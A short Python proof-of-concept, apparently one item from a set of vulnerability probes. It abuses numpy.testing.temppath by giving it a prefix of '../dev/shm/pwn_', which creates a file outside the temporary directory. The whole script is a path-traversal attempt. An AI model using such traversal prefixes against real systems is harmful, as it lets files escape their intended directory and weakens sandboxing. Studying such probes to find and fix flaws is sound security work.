# source: numpy/ma/tests/test_mrecords.py imports numpy.testing.temppath, a wrapper of tempfile.mkstemp(*args, **kwargs) (numpy testing docs)
# family: temppath(prefix='../..') path traversal in mkstemp
# goal: create file outside tmp
import time
from numpy.ma.tests import test_mrecords as t
with t.temppath(prefix="/".join(["..", "dev", "shm", "pwn_"])) as p:
    print(p, flush=True)
    time.sleep(6)
